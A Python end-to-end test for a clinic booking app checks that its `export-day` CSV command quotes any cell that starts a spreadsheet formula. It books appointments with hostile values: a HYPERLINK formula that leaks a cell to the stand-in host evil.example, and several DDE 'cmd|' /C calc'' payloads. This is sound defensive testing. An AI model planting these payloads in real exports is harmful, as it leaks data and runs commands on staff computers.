"""The front desk's CSV (`flask export-day`) opened in a spreadsheet runs no formula a patient
typed (OWASP's CSV injection guidance): bookings made through the real server, exported by the
real command, every cell beginning with =, +, -, @, tab or carriage return prefixed with '."""

import csv
import io

import pytest
import requests

from harness.server import start_server
from tests.support.cli import run_flask
from tests.support.load import booking, open_day

pytestmark = pytest.mark.e2e

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [  # (patient_name, doctor, notes): what an attacker can book
    (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "=1+1", "@HYPERLINK(\"http://evil.example\")"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    running = start_server(tmp_path_factory.mktemp("export"), workers=2)
    yield running
    running.stop()


def book_hostile(url: str, day) -> list[dict]:
    bodies = []
    for n, (name, doctor, notes) in enumerate(HOSTILE):
        body = {**booking("gomoti", day, "10:00", 500 + n), "patient_name": name,
                "doctor": doctor, "notes": notes}
        answer = requests.post(url + "/api/appointments", json=body, timeout=10)
        assert answer.status_code == 201, answer.text
        bodies.append(body)
    return bodies


def test_export_day_prefixes_every_formula_cell_with_a_quote(server):
    day = open_day(4)
    bodies = book_hostile(server.url, day)
    result = run_flask(server.sqlite_path, "export-day", "gomoti", day.isoformat())
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(bodies)
    for row, body in zip(sorted(rows, key=lambda r: r["patient_phone"]), bodies, strict=True):
        for column in ("patient_name", "doctor", "notes", "patient_phone"):
            assert row[column] == "'" + body[column], (column, row[column])
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
